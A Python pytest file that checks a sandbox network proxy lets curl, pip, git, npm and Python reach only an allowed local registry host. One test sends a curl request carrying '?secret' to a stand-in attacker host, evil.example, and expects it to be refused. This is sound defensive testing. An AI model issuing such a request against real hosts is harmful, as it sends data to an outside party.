"""Everyday programs behind the filter, led to the proxy by their environment."""

from __future__ import annotations

import json
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from tests.support.host_gate import ScriptedGate
from tests.support.notified import WHY_NOT
from tests.support.web_server import WebServer, typed
from tests.tools.environments.sandbox.network.conftest import MakeNetwork, run_program, run_python
from tools.environments.sandbox.network.hosts import NetworkRules
from tools.environments.sandbox.network.session_network import SessionNetwork

pytestmark = [pytest.mark.long, pytest.mark.skipif(bool(WHY_NOT), reason=WHY_NOT)]

HOST = "registry.example"


def needs(program: str) -> pytest.MarkDecorator:
    return pytest.mark.skipif(shutil.which(program) is None, reason=f"needs {program}")


def network_to(make_network: MakeNetwork, server: WebServer, gate: ScriptedGate | None = None) -> SessionNetwork:
    """One that lets `HOST` out, which is the server."""
    rules = NetworkRules(allow=(f"{HOST}:{server.port}",))
    return make_network(gate, rules, find=lambda _host, _port: ["127.0.0.1"])


@needs("curl")
def test_curl_reaches_what_is_allowed_and_tells_what_is_not(make_network: MakeNetwork) -> None:
    with WebServer({"/a": b"page"}) as server:
        network = network_to(make_network, server)
        assert run_program(network, "curl", "-sS", server.url("/a", HOST)).output == "page"
        refused = run_program(network, "curl", "-sS", f"https://evil.example:{server.port}/?secret")
    assert refused.code != 0
    assert "403" in refused.output
    assert refused.refusals == (f"evil.example:{server.port}: the answer was no",)


@needs("curl")
def test_a_program_that_was_announced_needs_no_password(make_network: MakeNetwork) -> None:
    with WebServer({"/a": b"page"}) as server:
        network = network_to(make_network, server)
        port = network.variables()["HTTP_PROXY"].rpartition(":")[2]
        plain = ("curl", "-sS", "--proxy", f"http://127.0.0.1:{port}", server.url("/a", HOST))
        assert run_program(network, *plain).output == "page"
        outside = subprocess.run(plain, capture_output=True, check=False, timeout=20)
    assert b"needs the user name and the password" in outside.stdout


def test_python_finds_the_proxy(make_network: MakeNetwork) -> None:
    script = "import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1], timeout=10).read().decode())"
    with WebServer({"/a": b"page"}) as server:
        ran = run_python(network_to(make_network, server), script, server.url("/a", HOST))
    assert ran.output == "page\n"


@needs("pip")
def test_pip_installs_from_a_registry(make_network: MakeNetwork, tmp_path: Path) -> None:
    name = "sample_sums-1.0-py3-none-any.whl"
    with zipfile.ZipFile(tmp_path / name, "w") as wheel:
        wheel.writestr("sample_sums.py", "def add(a, b):\n    return a + b\n")
        wheel.writestr(
            "sample_sums-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: sample-sums\nVersion: 1.0\n"
        )
        wheel.writestr(
            "sample_sums-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        wheel.writestr("sample_sums-1.0.dist-info/RECORD", "")
    pages = {
        "/simple/sample-sums/": typed(f'<a href="/{name}">{name}</a>'.encode(), "text/html"),
        f"/{name}": typed((tmp_path / name).read_bytes(), "application/zip"),
    }
    with WebServer(pages) as server:
        index = ("--index-url", server.url("/simple", HOST), "--trusted-host", HOST)
        options = ("--no-deps", "--no-cache-dir", "--disable-pip-version-check", "--target", str(tmp_path / "out"))
        arguments = ("install", *index, *options, "sample-sums")
        ran = run_program(network_to(make_network, server), "pip", *arguments)
    assert ran.code == 0, ran.output
    assert (tmp_path / "out" / "sample_sums.py").exists()


@needs("git")
def test_git_clones_over_http(make_network: MakeNetwork, workspace: Path, tmp_path: Path) -> None:
    subprocess.run(["git", "-C", str(workspace), "update-server-info"], check=True)
    git = workspace / ".git"
    pages = {
        f"/p.git/{file.relative_to(git)}": typed(file.read_bytes(), "text/plain")
        for file in git.rglob("*")
        if file.is_file()
    }
    with WebServer(pages) as server:
        ran = run_program(
            network_to(make_network, server), "git", "clone", "-q", server.url("/p.git", HOST), str(tmp_path / "copy")
        )
    assert ran.code == 0, ran.output
    assert (tmp_path / "copy" / "sums.py").exists()


@needs("git")
def test_a_proxy_in_gits_own_settings_does_not_lead_past_ours(make_network: MakeNetwork, workspace: Path) -> None:
    with WebServer() as elsewhere, WebServer() as server:
        settings = ("-c", "protocol.version=0")
        subprocess.run(["git", "-C", str(workspace), "config", "http.proxy", elsewhere.url()], check=True)
        network = network_to(make_network, server)
        run_program(network, "git", *settings, "ls-remote", server.url("/p.git", HOST), cwd=workspace)
    assert elsewhere.requests == []
    assert server.requests


@needs("npm")
def test_npm_asks_the_registry(make_network: MakeNetwork, tmp_path: Path) -> None:
    version = {"name": "sums", "version": "1.0.0"}
    sums = {"name": "sums", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}
    page = json.dumps(sums).encode()
    with WebServer({"/sums": typed(page, "application/json")}) as server:
        options = ("--registry", server.url("/", HOST), "--cache", str(tmp_path / "cache"), "--fetch-retries=0")
        ran = run_program(network_to(make_network, server), "npm", "view", *options, "sums", "version", cwd=tmp_path)
    assert "1.0.0" in ran.output


def test_names_are_not_found_past_the_proxy_so_nothing_leaves_by_them(make_network: MakeNetwork) -> None:
    """Without UDP (the sandbox's own filter) there is TCP to the name server, and that is a direct connection."""
    script = """
import socket
try:
    socket.create_connection(("9.9.9.9", 53), timeout=5)
except OSError as problem:
    print(problem.errno)
"""
    ran = run_python(make_network(ScriptedGate("*")), script)
    assert ran.output == "13\n"
    assert ran.refusals[0].startswith("9.9.9.9:53: ")
